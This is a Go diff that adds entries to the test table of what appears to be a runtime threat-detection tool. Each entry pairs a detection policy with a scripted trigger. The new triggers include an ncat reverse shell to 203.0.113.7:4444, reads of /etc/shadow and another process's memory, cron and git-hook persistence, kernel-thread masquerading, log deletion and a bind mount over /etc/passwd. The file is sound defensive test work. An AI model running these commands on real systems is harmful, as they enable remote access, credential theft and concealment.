@@ -39,6 +39,9 @@ var ownDeeds = []deed{
 	{"Shell opened a network connection", anywhere, "as bash | connect tcp 203.0.113.7:4444"},
 	{"Interactive shell without a terminal", anywhere, "as sh -i"},
 	{"Input and output handed to a connection", inContainer, "redirect"},
+	{"Remote shell tool", anywhere, "as ncat -ve /bin/sh 203.0.113.7 4444"},
+	{"Input and output handed to a connection", outside, "as python3 | redirect"},
+	{"Shell fed by an interpreter", anywhere, "as python3 | run sh"},
 	{"Shell started by a network service", anywhere, "as nginx | run sh -c true"},
 	{"Terminal shell in a container", inContainer, "tty | run sh -c true"},
 	{"Terminal made by a script", anywhere, "as python3 -c 'import pty; pty.spawn(1)'"},
@@ -53,6 +56,9 @@ var ownDeeds = []deed{
 	{"Service added or changed", anywhere, "create /etc/systemd/system/$NAME.service"},
 	{"Service added or changed", anywhere, "mkdir /etc/systemd/system | symlink /etc/systemd/system $HERE/x | create $HERE/x/$NAME.service"},
 	{"Profile of a shell changed", anywhere, "append /root/.bashrc"},
+	{"Service added or changed", anywhere, "create /usr/lib/udev/rules.d/$NAME.rules"},
+	{"Scheduled job set by its own tool", anywhere, "as crontab -"},
+	{"Hook of a repository changed", anywhere, "create /root/x/.git/hooks/post-checkout"},
 
 	// kubernetes.yaml
 	{"Service account token read by hand", inContainer, "create /run/secrets/kubernetes.io/serviceaccount/token | run cat /run/secrets/kubernetes.io/serviceaccount/token"},
@@ -67,6 +73,8 @@ var ownDeeds = []deed{
 	{"Program that is not in the image", inContainer, "copy /bin/busybox $HERE/true | run $HERE/true"},
 	{"Program run from a temporary directory", anywhere, "mkdir /tmp/$NAME | copy /proc/self/exe /tmp/$NAME/x | try /tmp/$NAME/x -h"},
 	{"Program run from a temporary directory", anywhere, "mkdir /tmp/$NAME | copy /proc/self/exe /tmp/$NAME/x | symlink /tmp/$NAME/x $HERE/x | try $HERE/x -h"},
+	{"Program run from a temporary directory", outside, "mkdir /tmp/$NAME | script /tmp/$NAME/x | run /tmp/$NAME/x"},
+	{"Program poses as a kernel thread", outside, "run bash -c 'exec -a [kworker/0:3] true'"},
 	{"Package manager run in a container", inContainer, "as apk add nmap"},
 	{"Program made executable in a container", inContainer, "create /tmp/$NAME | as chmod | chmod 755 /tmp/$NAME"},
 
@@ -100,6 +108,7 @@ var ownDeeds = []deed{
 	{"Service account at a terminal", outside, "uid 33 | tty | as sh"},
 	{"Account added or changed", outside, "as useradd -o -u 0 x"},
 	{"Capabilities given to a program", anywhere, "as setcap cap_setuid+ep /srv/x"},
+	{"Capabilities given to a program", anywhere, "create $HERE/x | capable $HERE/x"},
 
 	// credentials.yaml
 	{"Secret of the system read", anywhere, "read /etc/shadow"},
@@ -123,7 +132,12 @@ var ownDeeds = []deed{
 	{"Memory of another process written", anywhere, "poke"},
 	{"System log deleted", anywhere, "create /var/log/auth.log"},
 	{"Protection switched off", anywhere, "as systemctl stop auditd"},
+	{"System log deleted", anywhere, "append /var/log/syslog | cut /var/log/syslog"},
 	{"Data wiped", anywhere, "as shred -u /srv/x"},
+	{"Memory of another process read", anywhere, "poke"},
+	{"Memory of another process read", anywhere, "read /proc/$PARENT/mem"},
+	{"Helper of the kernel changed", outside, "write /proc/sys/kernel/core_pattern"},
+	{"Disk read past the file system", outside, "device 7 0 /dev/vdz | as cat | read /dev/vdz | remove /dev/vdz"},
 
 	// network.yaml
 	{"Outbound connection from a database", anywhere, "as postgres | connect tcp 203.0.113.7:443"},
@@ -150,6 +164,9 @@ var ownDeeds = []deed{
 	{"Rules of logging in changed", anywhere, "append /etc/group | symlink /etc $HERE/x | cd $HERE | rename x/group x/$NAME"},
 	{"Rules of logging in changed", anywhere, "append /etc/gshadow | symlink /etc $HERE/x | remove $HERE/x/gshadow"},
 	{"Rules of logging in changed", anywhere, "append /etc/gshadow | symlink /etc $HERE/x | remove $HERE/x/gshadow | remove $HERE/x"},
+	{"Rules of logging in changed", anywhere, "append /etc/login.defs | cut /etc/login.defs"},
+	{"Rules of logging in changed", anywhere, "append /etc/gshadow- | chown /etc/gshadow- | append /etc/krb5.conf | chown /etc/krb5.conf"},
+	{"Something mounted over critical files", outside, "append /etc/passwd | create /srv/p | mount bind /srv/p /etc/passwd | umount /etc/passwd"},
 	{"Software installed past the package manager", outside, "as make | run sh -c 'echo >/usr/local/bin/$NAME'"},
 	{"Software installed past the package manager", outside, "as make | run sh -c 'echo >/usr/local/lib/$NAME.so.1'"},
 	{"List of accepted SSH keys changed", anywhere, "create /home/ada/.ssh/y | symlink /home/ada $HERE/x | rename $HERE/x/.ssh/y $HERE/x/.ssh/authorized_keys"},
@@ -157,8 +174,10 @@ var ownDeeds = []deed{
 
 // notPlayed are the policies that no test can provoke, and why.
 var notPlayed = map[string]string{
-	"Critical file changed":        "the stages have copies of the host's directories; TestIntegrity changes files of the host",
-	"Kernel module loaded by hand": "it fires when a module was really loaded",
+	"Critical file changed":         "the stages have copies of the host's directories; TestIntegrity changes files of the host",
+	"Calls hidden from observation": "the actor lies where programs are installed",
+	"Memory of the machine read":    "many kernels refuse it to everybody",
+	"Kernel module loaded by hand":  "it fires when a module was really loaded",
 }
 
 // TestOwnPolicies: every embedded policy fires on what it describes, through
